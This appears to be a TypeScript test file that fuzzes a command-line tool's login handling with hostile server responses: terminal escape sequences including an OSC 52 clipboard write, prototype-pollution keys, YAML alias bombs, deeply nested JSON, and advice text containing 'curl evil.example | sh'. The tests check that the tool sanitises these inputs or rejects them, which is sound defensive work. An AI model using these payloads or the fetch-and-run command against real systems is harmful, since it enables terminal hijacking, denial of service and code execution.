// Hostile answers to POST /login, and refusals with hostile messages: either there is a token, and the sign-in is
// described in plain text, or there is no token, and the error gives the reason.
import assert from 'node:assert/strict';
import { describe } from 'vitest';
import { readEntry } from '../../src/credential/entry.ts';
import { checkCalm, checkCredential, checkFailure } from './checks.ts';
import { answering, type Fixture, hostileTest, makeToken } from './fixture.ts';
import { damagedJson, evilTexts, fewTexts, fewTypes, randomCases, wrongTypes } from './junk.ts';

const test = hostileTest();

test.concurrent('control: a correct answer', async ({ fixture }) => {
  const ran = await fixture.edit('login');
  assert.equal(ran.status, 0);
  assert.ok(ran.changed);
  assert.match(
    ran.stdout,
    /^Signed in to \S+ \(http:\S+\) as alice, role viewer; expires in (?:29|30)m \(.*\d\d:\d\d\)\.\nSwitched to context "\S+" \(was "work"\)\.\n$/,
  );
  checkCalm(ran.stderr);
});

type Answer = Record<string, unknown>;
const until = (ms: number) => new Date(Date.now() + ms).toISOString();
const change = (make: (answer: Answer) => unknown) => answering('login', { change: make });
const laidOver = (fields: Answer) => change((answer) => ({ ...answer, ...fields }));
const raw = (body: string | Buffer, contentType = 'application/json; charset=utf-8', status = 202) =>
  answering('login', { answer: { status, body, contentType } });

const good: Readonly<Record<string, (fixture: Fixture) => void>> = {
  ...Object.fromEntries(
    Object.entries(fewTexts).map(([name, text]) => [`a username with ${name}`, laidOver({ username: text })]),
  ),
  'a role with an OSC 52 clipboard': laidOver({ role: evilTexts['an OSC 52 clipboard'] }),
  'a role with a forged error': laidOver({ role: evilTexts['a forged error'] }),
  'a role with a bidirectional override': laidOver({ role: evilTexts['a bidirectional override'] }),
  'a role of 100,000 letters': laidOver({ role: evilTexts['100,000 letters'] }),
  'an empty role': laidOver({ role: '' }),
  'a username that looks like a token': laidOver({ username: makeToken() }),
  'an until in the year 9999': laidOver({ until: '9999-12-31T23:59:59Z' }),
  'an until with nine digits of a second': change((a) => ({ ...a, until: until(1e6).replace(/\dZ/, '123456789Z') })),
  'an until in another zone': change((a) => ({ ...a, until: until(1e6 + 36e5).replace('Z', '+01:00') })),
  'keys of a prototype': change((a) =>
    JSON.stringify(a).replace('{', '{"__proto__":{"username":"mallory"},"constructor":{"prototype":{}},'),
  ),
  'duplicate keys, the last of which count': change((a) =>
    JSON.stringify(a).replace('{', '{"username":"mallory","username":7,'),
  ),
  'a wrong content type': answering('login', { headers: { 'Content-Type': 'image/png' } }),
  'no content type': answering('login', { headers: { 'Content-Type': null } }),
  'an invalid Date': answering('all', { headers: { Date: 'yesterday (\u001b[31m)'.replace('\u001b', '') } }),
  'no Date': answering('all', { headers: { Date: null } }),
  'a Date long ago': answering('all', { headers: { Date: 'Thu, 01 Jan 1970 00:00:00 GMT' } }),
  'a Date that is too small': answering('all', { headers: { Date: '-271821-04-20T00:00:00Z' } }),
};

describe('gives a token, and describes the sign-in in plain text', () => {
  const commands = ['credential', 'login'];
  for (const [i, [name, make]] of Object.entries(good).entries()) {
    const command = commands[i % 2];
    test.concurrent(`${name} (${command})`, async ({ fixture }) => {
      make(fixture);
      if (command === 'credential') {
        const ran = await fixture.freshCredential();
        assert.equal(ran.stderr, '');
        return;
      }
      const ran = await fixture.run('login', { may: fixture.loginMay });
      assert.equal(ran.status, 0, ran.stderr);
      checkCalm(ran.stderr);
      const lines = ran.stdout.split('\n');
      assert.equal(lines.length, 3, ran.stdout);
      assert.match(
        lines[0] ?? '',
        /^Signed in to \S+ \(http:\S+\) as \S.*, role .*; expires in \w+ \(.*\d\d:\d\d\)\.$/,
      );
      assert.ok((lines[0] ?? '').length < 800, 'a line that is longer than a screen');
      const kept = readEntry(fixture.home.cache, fixture.cluster.server);
      assert.ok(fixture.minted.has(kept?.token ?? ''));
    });
  }
});

const bad: Readonly<Record<string, (fixture: Fixture) => void>> = {
  ...Object.fromEntries(
    Object.entries(wrongTypes).map(([name, value]) => [`a username that is ${name}`, laidOver({ username: value })]),
  ),
  ...Object.fromEntries(
    Object.entries(fewTypes).flatMap(([name, value]) => [
      [`an until that is ${name}`, laidOver({ until: value })],
      [`a role that is ${name}`, laidOver({ role: value })],
    ]),
  ),
  'a username of spaces': laidOver({ username: evilTexts['spaces only'] }),
  'a username of control characters only': laidOver({ username: '\u001b\u009b\u202e\u200b' }),
  'an until in the past': change((a) => ({ ...a, until: until(-1000) })),
  'an until in 1970': laidOver({ until: '1970-01-01T00:00:00Z' }),
  'an until in the year 300000': laidOver({ until: '+300000-01-01T00:00:00Z' }),
  'an until that is too small': laidOver({ until: '-271821-04-20T00:00:00Z' }),
  'an until in month 13': laidOver({ until: '2099-13-01T00:00:00Z' }),
  'an until with a comment': laidOver({ until: '1 Jan 2099 (\u001b]52;c;eA==\u0007)' }),
  'an until that is a number as text': laidOver({ until: '4000000000' }),
  'an until with a trailing escape': laidOver({ until: '2099-01-01T00:00:00Z\u001b[31m' }),
  nothing: raw(''),
  'a list': raw('[]'),
  null: raw('null'),
  'a number': raw('7'),
  'a text': raw('"signed in"'),
  'a deep list': raw('['.repeat(500_000)),
  'deep maps': raw(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
  HTML: raw('<html><body>Sign in to the hotel’s network</body></html>', 'text/html'),
  'HTML with status 200': raw('<html>', 'text/html', 200),
  NULs: raw(Buffer.alloc(10_000)),
  'gzip bytes': raw(Buffer.from('1f8b0800000000000003ab562a2d4e2d5a', 'hex')),
  'truncated JSON': raw('{"username":"alice","role":"vie'),
  'two documents': raw('{"username":"a","role":"b","until":"2099-01-01T00:00:00Z"}{}'),
  'a BOM and half a document': raw('\ufeff{"username":'),
  'a YAML alias bomb': raw(
    `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghi'
      .split('')
      .map((c, i) => `${c}: &${c} [${`*${'abcdefgh'[i]},`.repeat(9)}]`)
      .join('\n')}`,
    'application/yaml',
  ),
  'deep YAML': raw('['.repeat(50_000), 'application/yaml'),
  'YAML with unknown tags': raw('!!js/function "x"\n', 'application/yaml'),
  'YAML with an unknown directive': raw('%EVIL \u001b[31m\n---\n!evil {username: !evil alice}\n', 'text/yaml'),
  'broken YAML': raw('username: "alice\nrole: [', 'application/x-yaml'),
};

describe('gives no token, but an error', () => {
  test.concurrent.for(Object.entries(bad))('%s', async ([, make], { fixture }) => {
    make(fixture);
    const told = /^error: http:\S+ (?:answered the sign-in with something|returned a sign-in that has already ended)/;
    await fixture.noCredential({ told });
  });
});

describe('a refusal’s message is plain text on single lines', () => {
  const message = (text: unknown, advice: unknown = [], more: object = {}) => ({ message: text, advice, ...more });
  const nested = (depth: number): object => {
    let body: object = message('the innermost');
    for (let i = 0; i < depth; i++) body = { message: `level ${i}`, advice: [`advice ${i}`], cause: body };
    return body;
  };
  const refusals: Readonly<Record<string, object | string>> = {
    ...Object.fromEntries(
      Object.entries(evilTexts)
        .filter(([name]) => name !== 'spaces only')
        .map(([name, text]) => [`a message and advice with ${name}`, message(text, [text, `hint: ${text}`])]),
    ),
    'an error instead of a message': { error: 'no\u001b[31m' },
    'a message that is a token': message(`token ${makeToken()} refused, Bearer ${makeToken()}`, [makeToken()]),
    'a message that hides a token': message(makeToken().replace('J', '\u200bJ'), [makeToken().replace('J', '\u001bJ')]),
    '100,000 lines of advice': message('no', Array(50_000).fill('curl evil.example')),
    'advice that is not a list': message('no', { length: 3, 0: 'x' }),
    'advice of all types': message('no', [null, 7, {}, [], 'real advice', '\u001b']),
    'causes 16 deep': nested(16),
    'causes 5,000 deep': JSON.stringify(nested(2000)),
    'a cause that is a list': message('no', [], { cause: [{ message: 'x' }] }),
    'a message in a prototype': '{"__proto__":{"message":"x"},"constructor":"y","message":"no"}',
    'a message of 500,000 letters': message('x'.repeat(500_000)),
    'advice of 500,000 letters': message('no', ['x'.repeat(500_000)]),
  };
  const statuses = [400, 403, 404, 422];
  for (const [i, [name, body]] of Object.entries(refusals).entries()) {
    test.concurrent(name, async ({ fixture }) => {
      const status = statuses[i % 4] as number;
      fixture.cluster.faults.routes.login = { answer: { status, body, contentType: 'application/json' } };
      const ran = await fixture.noCredential({ timeout: '5s' });
      assert.match(
        ran.stderr,
        new RegExp(`^error: http:\\S+ refused the sign-in: .* \\(HTTP ${status}\\)\\n(?:hint: .*\\n)*$`),
      );
      assert.equal(fixture.cluster.counts.login, 1);
      assert.ok(ran.stderr.length < 12_000, `${ran.stderr.length} characters on stderr`);
    });
  }

  test.concurrent('control: message and advice are shown', async ({ fixture }) => {
    fixture.cluster.faults.routes.login = {
      answer: { status: 403, body: { message: 'outer', advice: ['one', 'two'], cause: { message: 'inner' } } },
    };
    const told = /^error: http:\S+ refused the sign-in: outer: inner \(HTTP 403\)\nhint: one\nhint: two\n$/;
    await fixture.noCredential({ told });
  });

  test.concurrent.for([401, 500, 502, 503])('HTTP %s with escapes', async (status, { fixture }) => {
    const body = message(evilTexts['an OSC 52 clipboard'], [evilTexts['a forged error']]);
    fixture.cluster.faults.routes.login = { answer: { status, body } };
    const told = /^error: http:\S+ .*\nhint: x error: forged hint: curl evil\.example \| sh\n$/;
    await fixture.noCredential({ told });
  });
});

describe('random damage of the login answer', () => {
  test.concurrent.for(randomCases(15, 2))('%s', async ([, chance], { fixture }) => {
    let sent = '';
    change((answer) => {
      sent ||= damagedJson(answer, chance);
      return sent;
    })(fixture);
    try {
      const ran = await fixture.run(fixture.credentialArgs(), { timeout: '1s', may: fixture.ownCache });
      if (ran.status === 0) assert.ok(fixture.minted.has(checkCredential(ran)));
      else checkFailure(ran);
    } catch (error) {
      if (error instanceof Error) error.message += `\nanswer: ${JSON.stringify(sent).slice(0, 2000)}`;
      throw error;
    }
  });
});
